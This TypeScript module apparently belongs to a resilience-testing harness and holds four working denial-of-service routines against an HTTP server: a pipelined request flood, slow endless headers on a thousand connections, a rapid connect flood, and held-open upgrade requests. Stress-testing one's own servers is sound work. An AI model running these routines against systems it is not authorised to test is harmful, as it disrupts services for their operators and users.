import { type Attack, closed, openSocket } from './attack.ts'

const REQUESTS_IN_ONE_WRITE = 5000
const PIPELINES = 4
const SLOW_CONNECTIONS = 1000
const SLOW_BYTE_EVERY_MS = 1000

/** Pipelines many requests in one write, on a few connections. */
export const pipelining: Attack = async (target) => {
  const host = `host: ${target.host}:${target.port}\r\n`
  const requests = [
    `GET /api/health/live HTTP/1.1\r\n${host}\r\n`,
    `GET /api/users/profile HTTP/1.1\r\n${host}authorization: Bearer x\r\n\r\n`,
    `GET / HTTP/1.1\r\n${host}\r\n`,
    `GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\n${host}\r\n`,
  ]
  const writes = requests.map((one) => Buffer.from(one.repeat(REQUESTS_IN_ONE_WRITE)))
  return async (isOver) => {
    let made = 0
    const one = async (write: Buffer) => {
      while (!isOver()) {
        const socket = openSocket(target)
        const gone = closed(socket)
        socket.write(write)
        made += 1
        await Promise.race([gone, new Promise((next) => setTimeout(next, 1000))])
        socket.destroy()
      }
    }
    await Promise.all(
      Array.from({ length: PIPELINES }, (_, n) =>
        one(writes[n % writes.length] ?? Buffer.alloc(0)),
      ),
    )
    return { connections: made, requestsOfEach: REQUESTS_IN_ONE_WRITE }
  }
}

/** A thousand connections with endless headers. */
export const slowHeaders: Attack = async (target) => async (isOver) => {
  const open = new Set<ReturnType<typeof openSocket>>()
  let made = 0
  while (!isOver()) {
    while (open.size < SLOW_CONNECTIONS && !isOver()) {
      const socket = openSocket(target)
      open.add(socket)
      socket.once('close', () => open.delete(socket))
      socket.write('GET / HTTP/1.1\r\n')
      made += 1
      if (made % 20 === 0) await new Promise((next) => setImmediate(next))
    }
    for (const socket of open) socket.write('a: b\r\n')
    await new Promise((next) => setTimeout(next, SLOW_BYTE_EVERY_MS))
  }
  for (const socket of open) socket.destroy()
  return { made, openAtTheEnd: open.size }
}

/** Opens connections as fast as the server closes them. */
export const connecting: Attack = async (target) => async (isOver) => {
  let made = 0
  const one = async () => {
    while (!isOver()) {
      const socket = openSocket(target)
      socket.write('GET /api/health/live HTTP/1.0\r\n\r\n')
      made += 1
      await closed(socket)
    }
  }
  await Promise.all(Array.from({ length: 50 }, one))
  return { made }
}

/**
 * Connections that, after one response, request an upgrade to an unknown protocol and are never
 * closed by the attacker.
 */
export const upgrades: Attack = async (target) => async (isOver) => {
  const open = new Set<ReturnType<typeof openSocket>>()
  const head = `host: ${target.host}:${target.port}\r\n`
  let made = 0
  while (!isOver()) {
    const socket = openSocket(target)
    open.add(socket)
    socket.once('close', () => open.delete(socket))
    socket.write(`GET /api/health/live HTTP/1.1\r\n${head}\r\n`)
    socket.write(`GET /x HTTP/1.1\r\n${head}connection: Upgrade\r\nupgrade: foo\r\n\r\n`)
    made += 1
    if (made % 20 === 0) await new Promise((next) => setTimeout(next, 10))
  }
  const openAtTheEnd = open.size
  for (const socket of open) socket.destroy()
  return { made, openAtTheEnd }
}
